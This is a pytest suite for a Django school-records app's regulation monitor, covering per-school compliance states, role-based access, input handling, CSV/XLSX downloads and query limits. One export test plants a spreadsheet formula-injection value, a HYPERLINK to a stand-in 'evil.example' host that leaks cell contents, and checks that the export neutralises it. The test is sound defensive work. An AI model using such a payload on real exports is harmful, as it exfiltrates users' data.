"""The regulation monitor (R-DEP-5): the order's items as data, each school's states
computed from its records (each check against a count of its own, school by school),
who reads which rows, the downloads, bad input and the query budget."""

import csv
import datetime
import importlib
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from attestation.models import ExamResult
from curriculum.factories import AcademicYearFactory, SchoolClassFactory
from curriculum.models import (
    AcademicYear,
    ClassMembership,
    CurriculumLine,
    GradePeriodType,
    InstitutionSettings,
    Period,
    SchoolClass,
    Tariffication,
    TeachingAssignment,
)
from journal.models import FinalKind, FinalMark, Tally
from movement.models import Movement, MovementKind
from portal.access import Role, today
from portfolio.models import Portfolio, Project
from records.factories import PersonFactory, RoleAssignmentFactory, UserFactory
from records.models import (
    Institution,
    InstitutionDocument,
    Pupil,
    RoleAssignment,
    Staff,
)
from reports import monitor
from reports.models import RegulationItem
from reports.regulation import ITEMS, load_items
from schedule.models import Event, Lesson, ThematicPlan, TimetableEntry

pytestmark = pytest.mark.django_db

MONITOR = reverse("reports:monitor")


def rows_of(response):
    return {row.school.short_name: row for row in response.context["rows"]}


def state(row, appendix, number):
    return next(cell.state for cell in row.cells
                if (cell.item.appendix, cell.item.number) == (appendix, number))


def schools():
    return list(Institution.objects.order_by("short_name"))


# The items as data ---------------------------------------------------------------


def test_every_item_of_both_appendices_is_loaded_by_the_migration():
    stored = {(i.appendix, i.number): (i.title, i.school_role, i.department_role, i.due_day,
                                       i.due_month, i.computed_by)
              for i in RegulationItem.objects.all()}
    assert stored == {(a, n): (title, school, department, day, month, check)
                      for a, n, title, school, department, day, month, check in ITEMS}
    assert sorted(n for a, n in stored if a == 3) == list(range(1, 21))
    assert sorted(n for a, n in stored if a == 4) == list(range(1, 7))


def test_the_migration_holds_the_same_list_as_the_code():
    migration = importlib.import_module("reports.migrations.0002_regulation_items")
    assert [tuple(str(v) for v in row) for row in migration.ITEMS] == [
        tuple(str(v) for v in row) for row in ITEMS]


def test_loading_again_changes_only_what_the_list_changed():
    item = RegulationItem.objects.get(appendix=3, number=12)
    item.title = "Исправлено"
    item.save()
    load_items()
    load_items()
    assert RegulationItem.objects.count() == len(ITEMS)
    item.refresh_from_db()
    assert item.title == "Составление расписания"


def test_every_check_named_by_the_items_exists_and_every_role_is_a_role():
    for _a, _n, _title, school_role, department_role, day, month, check in ITEMS:
        assert not check or check in monitor.CHECKS
        assert school_role in Role.values
        assert not department_role or department_role in Role.values
        assert 1 <= month <= 12 and 1 <= day <= 31


def test_a_date_from_august_on_is_in_the_years_first_calendar_year():
    item = RegulationItem(due_day=29, due_month=9)
    assert monitor.due_on(item, 2026) == datetime.date(2026, 9, 29)
    item = RegulationItem(due_day=30, due_month=6)
    assert monitor.due_on(item, 2026) == datetime.date(2027, 6, 30)
    # A day the month has not: its last day.
    item = RegulationItem(due_day=31, due_month=11)
    assert monitor.due_on(item, 2026) == datetime.date(2026, 11, 30)
    assert monitor.school_year_of(datetime.date(2027, 3, 1)) == 2026
    assert monitor.school_year_of(datetime.date(2026, 8, 1)) == 2026


# The page ------------------------------------------------------------------------


def test_the_department_sees_every_school_with_items_done_and_late(client_for):
    response = client_for("dept").get(MONITOR)
    assert response.status_code == 200
    rows = rows_of(response)
    assert set(rows) == {school.short_name for school in schools()}
    day = today()
    for row in rows.values():
        assert row.done > 0 and row.late > 0, row.school
        for cell in row.cells:
            assert cell.state in (monitor.DONE, monitor.LATE, monitor.PENDING)
            if cell.state == monitor.LATE:
                assert cell.due < day
            if cell.state == monitor.PENDING:
                assert cell.due >= day
    html = response.content.decode()
    assert 'class="table stack monitor"' in html and '<div class="table-wrap">' in html
    assert 'data-state="late"' in html and 'data-state="done"' in html
    # The order's statistical forms: no record shows them, so they are listed apart.
    assert "Заполнение формы ОШ-1, 5, 9" in html
    assert all((cell.item.appendix, cell.item.number) != (3, 6)
               for row in rows.values() for cell in row.cells)


def test_a_school_without_its_timetable_is_late_with_it(client_for):
    """Not a flag: take away one class's timetable and the item turns late."""
    school = Institution.objects.get(short_name="СОШ № 1")
    before = rows_of(client_for("dept").get(MONITOR))
    assert state(before["СОШ № 1"], 3, 12) == monitor.DONE
    school_class = SchoolClass.objects.filter(institution=school,
                                              academic_year__is_current=True).first()
    TimetableEntry.objects.filter(school_class=school_class).delete()
    after = rows_of(client_for("dept").get(MONITOR))
    expected = monitor.LATE if datetime.date(2026, 11, 7) < today() else monitor.PENDING
    assert state(after["СОШ № 1"], 3, 12) == expected
    assert state(after["СОШ № 2"], 3, 12) == monitor.DONE
    assert after["СОШ № 1"].done == before["СОШ № 1"].done - 2  # items 3.12 and 4.5


def test_a_school_admin_sees_their_school_only(client_for):
    response = client_for("school2.admin").get(MONITOR)
    assert response.status_code == 200
    assert set(rows_of(response)) == {"СОШ № 2"}
    for username in ("school1.director", "school1.deputy"):
        assert set(rows_of(client_for(username).get(MONITOR))) == {"СОШ № 1"}


@pytest.mark.parametrize("username", ["school1.teacher", "school1.classteacher",
                                      "school1.parent", "school1.pupil", "school1.secretary",
                                      "school1.medic"])
def test_who_may_not_read_the_monitor_gets_403(client_for, username):
    assert client_for(username).get(MONITOR).status_code == 403
    assert client_for(username).get(MONITOR, {"export": "csv"}).status_code == 403


def test_a_visitor_is_sent_to_log_in(client):
    response = client.get(MONITOR)
    assert response.status_code == 302 and "login" in response["Location"]


@pytest.mark.parametrize("params", [
    {"appendix": "abc"}, {"appendix": "99999999999999999999"}, {"appendix": "-1"},
    {"appendix": "5"}, {"export": "pdf"}, {"export": "doc"}, {"appendix": "\x00"},
])
def test_bad_input_is_not_an_error(client_for, params):
    response = client_for("dept").get(MONITOR, params)
    assert response.status_code == 200
    assert len(response.context["items"]) == sum(1 for item in ITEMS if item[-1])


def test_one_appendix_at_a_time(client_for):
    response = client_for("dept").get(MONITOR, {"appendix": "4"})
    assert {item.appendix for item in response.context["items"]} == {4}
    assert len(response.context["items"]) == 6


# The downloads -------------------------------------------------------------------


def test_the_downloads_are_the_table_with_formulas_made_text(client_for):
    Institution.objects.filter(short_name="СОШ № 1").update(
        short_name='=HYPERLINK("http://evil.example/?"&A2;"1")')
    RegulationItem.objects.filter(appendix=3, number=1).update(title="+Права и роли")
    client = client_for("dept")
    response = client.get(MONITOR, {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert len(lines) == 1 + Institution.objects.count()
    assert lines[0][1] == "3.1. +Права и роли"  # the item's number comes first
    assert any(line[0] == "'=HYPERLINK(\"http://evil.example/?\"&A2;\"1\")" for line in lines)
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line)
    response = client.get(MONITOR, {"export": "xlsx", "appendix": "3"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'=HYPERLINK(\"http://evil.example/?\"&A2;\"1\")" in [cell.value for cell in cells]
    assert sheet.max_column == 1 + sum(1 for item in ITEMS if item[0] == 3 and item[-1]) + 3


# The query budget ----------------------------------------------------------------

BUDGET = 32


def queries_of(client):
    with CaptureQueriesContext(connection) as queries:
        assert client.get(MONITOR).status_code == 200
    return len(queries)


def test_the_page_has_a_query_budget_whatever_the_number_of_schools(
        client_for, django_assert_max_num_queries):
    client = client_for("dept")
    client.get(MONITOR)
    with django_assert_max_num_queries(BUDGET):
        assert client.get(MONITOR).status_code == 200
    before = queries_of(client)
    for _number in range(3):
        year = AcademicYearFactory(starts_on=datetime.date(monitor.school_year_of(today()), 9, 1),
                                   ends_on=datetime.date(monitor.school_year_of(today()) + 1,
                                                         5, 31))
        SchoolClassFactory(institution=year.institution, academic_year=year)
    assert len(rows_of(client.get(MONITOR))) == 5
    assert queries_of(client) == before


# The admin -----------------------------------------------------------------------


def test_the_department_administrator_keeps_the_items_in_the_admin(client):
    person = PersonFactory(user=UserFactory())
    RoleAssignmentFactory(person=person, role=Role.DEPT_ADMIN, institution=None)
    client.force_login(person.user)
    index = reverse("reports_regulationitem:index")
    response = client.get(index)
    assert response.status_code == 200
    assert "Составление расписания" in response.content.decode()
    item = RegulationItem.objects.get(appendix=3, number=12)
    edit = reverse("reports_regulationitem:edit", args=[item.pk])
    assert client.get(edit).status_code == 200
    response = client.post(edit, {
        "appendix": 3, "number": 12, "title": "Составление расписания",
        "school_role": Role.DEPUTY_ACADEMIC, "department_role": Role.DEPT_ADMIN,
        "due_day": 1, "due_month": 11, "computed_by": "timetable"})
    assert response.status_code == 302, response.context["form"].errors
    item.refresh_from_db()
    assert (item.due_day, item.due_month) == (1, 11)
    # A check the monitor does not know is refused, not stored.
    response = client.post(edit, {
        "appendix": 3, "number": 12, "title": "Составление расписания",
        "school_role": Role.DEPUTY_ACADEMIC, "due_day": 1, "due_month": 11,
        "computed_by": "no_such_check"})
    assert response.status_code == 200
    item.refresh_from_db()
    assert item.computed_by == "timetable"


def test_a_school_keeps_no_items(client_for):
    client = client_for("school1.admin")
    response = client.get(reverse("reports_regulationitem:index"))
    assert response.status_code in (302, 403)


# Each check against a count of its own, school by school --------------------------
#
# What each function below answers for one school is written from the rows as plainly
# as it goes (one school at a time, in Python where the rule is easier read there), not
# from reports/monitor.py's grouped queries.


def year_of(school):
    return AcademicYear.objects.filter(institution=school, is_current=True).first()


def used_periods(school, year):
    own = set(GradePeriodType.objects.filter(academic_year=year)
              .values_list("period_type_id", flat=True))
    default = InstitutionSettings.objects.filter(institution=school).values_list(
        "default_period_type_id", flat=True).first()
    return [period for period in Period.objects.filter(academic_year=year)
            if period.period_type_id in own | {default}]


def ended_periods(school, year, day):
    return sorted((p for p in used_periods(school, year) if p.ends_on < day),
                  key=lambda p: (p.ends_on, p.starts_on))


def current_pupils(year):
    return Pupil.objects.filter(left_on__isnull=True, school_class__academic_year=year)


def expect_roles(school, year, day):
    return any(a.role != Role.ADMIN and a.valid_from <= day
               and (a.valid_to is None or a.valid_to >= day)
               for a in RoleAssignment.objects.filter(institution=school))


def expect_year_closed(school, year, day):
    past = AcademicYear.objects.filter(institution=school, ends_on__lt=year.starts_on)
    return all(period.closed_at for old in past for period in used_periods(school, old))


def expect_new_year(school, year, day):
    return year is not None and year.starts_on.year >= monitor.school_year_of(day)


def expect_school_settings(school, year, day):
    return InstitutionSettings.objects.filter(institution=school).exists()


def expect_school_card(school, year, day):
    return (all(getattr(school, name) for name in monitor.CARD_FIELDS)
            and InstitutionDocument.objects.filter(institution=school, kind="licence").exists())


def expect_curriculum(school, year, day):
    return (CurriculumLine.objects.filter(academic_year=year).exists()
            and Period.objects.filter(academic_year=year).exists())


def expect_staff(school, year, day):
    staff = list(Staff.objects.filter(institution=school, left_on__isnull=True))
    return any(s.teaches for s in staff) and all(s.position_id for s in staff)


def expect_tariffication(school, year, day):
    return Tariffication.objects.filter(academic_year=year, approved_at__isnull=False).exists()


def classes_of(year):
    return list(SchoolClass.objects.filter(academic_year=year))


def expect_pupils(school, year, day):
    classes = classes_of(year)
    return bool(classes) and all(c.pupils.filter(left_on__isnull=True).exists()
                                 for c in classes)


def expect_classes(school, year, day):
    return bool(classes_of(year))


def expect_timetable(school, year, day):
    classes = classes_of(year)
    return bool(classes) and all(TimetableEntry.objects.filter(school_class=c).exists()
                                 for c in classes)


def expect_thematic_plans(school, year, day):
    plans = {(p.subject_id, p.school_class_id, p.grade)
             for p in ThematicPlan.objects.filter(academic_year=year)}
    assignments = list(TeachingAssignment.objects.filter(school_class__academic_year=year)
                       .select_related("school_class"))
    return bool(assignments) and all(
        any(subject == a.subject_id and (school_class == a.school_class_id or (
            school_class is None and grade == a.school_class.grade))
            for subject, school_class, grade in plans)
        for a in assignments)


def expect_school_events(school, year, day):
    return any(year.starts_on <= e.starts_on <= year.ends_on
               for e in Event.objects.filter(institution=school, school_class=None))


def expect_class_events(school, year, day):
    classes = classes_of(year)
    return bool(classes) and all(Event.objects.filter(school_class=c).exists()
                                 for c in classes)


def expect_journal(school, year, day):
    ended = ended_periods(school, year, day)
    if not ended:
        return False
    period = ended[-1]
    lessons = list(Lesson.objects.filter(institution=school, is_cancelled=False,
                                         date__gte=period.starts_on, date__lte=period.ends_on))
    kept = [lesson for lesson in lessons if lesson.topic and lesson.attendance_taken]
    return bool(lessons) and len(kept) >= 0.9 * len(lessons)


def expect_pupils_in_book(school, year, day):
    enrolled = set(Movement.objects.filter(kind=MovementKind.ENROLMENT,
                                           cancelled_by__isnull=True,
                                           pupil__institution=school)
                   .values_list("pupil_id", flat=True))
    pupils = set(Pupil.objects.filter(institution=school, left_on__isnull=True)
                 .values_list("pk", flat=True))
    return bool(pupils) and pupils <= enrolled


def expect_exams(school, year, day):
    for pupil in current_pupils(year).filter(school_class__grade__in=(9, 11)):
        exams = list(ExamResult.objects.filter(pupil=pupil, academic_year=year))
        if not exams or any(e.mark is None and e.test_score is None and e.primary_score is None
                            for e in exams):
            return False
    return year is not None


def expect_portfolios(school, year, day):
    return any(p.achievements.exists() or p.materials.exists()
               for p in Portfolio.objects.filter(institution=school))


def expect_projects(school, year, day):
    return Project.objects.filter(institution=school).exists()


def expect_basic_data(school, year, day):
    return all(EXPECTED[name](school, year, day)
               for name in ("new_year", "staff", "curriculum", "classes"))


def expect_pupils_minimum(school, year, day):
    pupils = list(current_pupils(year).select_related("person"))
    for pupil in pupils:
        person = pupil.person
        if not (person.user_id and person.birth_date and person.sex
                and pupil.residence_address and pupil.home_phone):
            return False
        for guardianship in pupil.guardianships.select_related("parent__person"):
            if not (guardianship.parent.person.user_id and guardianship.parent.person.sex):
                return False
    return bool(pupils)


def expect_quarter_finals(school, year, day):
    ended = ended_periods(school, year, day)
    if not ended or not all(period.closed_at for period in ended):
        return False
    finals = {(f.pupil_id, f.subject_id, f.period_id) for f in FinalMark.objects.filter(
        kind=FinalKind.PERIOD, period__in=ended).exclude(value="")}
    memberships = list(ClassMembership.objects.filter(institution=school))
    ends = {period.pk: period.ends_on for period in ended}
    for tally in Tally.objects.filter(institution=school, period__in=ended, marks__gt=0):
        end = ends[tally.period_id]
        stayed = any(m.pupil_id == tally.pupil_id and m.school_class_id == tally.school_class_id
                     and m.starts_on <= end and (m.ends_on is None or m.ends_on >= end)
                     for m in memberships)
        if stayed and (tally.pupil_id, tally.subject_id, tally.period_id) not in finals:
            return False
    return True


EXPECTED = {name[len("expect_"):]: function for name, function in globals().items()
            if name.startswith("expect_")}


def test_every_check_has_its_own_count_here():
    assert set(EXPECTED) == set(monitor.CHECKS)


@pytest.mark.parametrize("name", sorted(monitor.CHECKS))
def test_each_check_agrees_with_a_count_of_its_own(name):
    day = today()
    city = schools()
    assert len(city) == 2
    records = monitor.Records([school.pk for school in city], day)
    expected = {school.pk for school in city if EXPECTED[name](school, year_of(school), day)}
    assert records.done(name) == expected


def test_the_demo_city_is_as_its_records_say():
    """What the demo city shows on the suite's day: its finals miss a few (the demo
    leaves 2 % out) and its pupils have no logins yet, both past their dates; the
    graduates' exams are chosen but not yet taken."""
    if today() != datetime.date(2026, 11, 18):
        pytest.skip("the demo's states are written for the suite's own day")
    items = list(RegulationItem.objects.all())
    for row in monitor.matrix(schools(), items, today()):
        states = {(c.item.appendix, c.item.number): c.state for c in row.cells}
        late = {key for key, value in states.items() if value == monitor.LATE}
        pending = {key for key, value in states.items() if value == monitor.PENDING}
        assert late == {(4, 2), (4, 4)}, row.school
        assert pending == {(3, 18)}, row.school
        assert states[3, 6] == monitor.NOT_FOLLOWED
        assert row.done == len(items) - 4
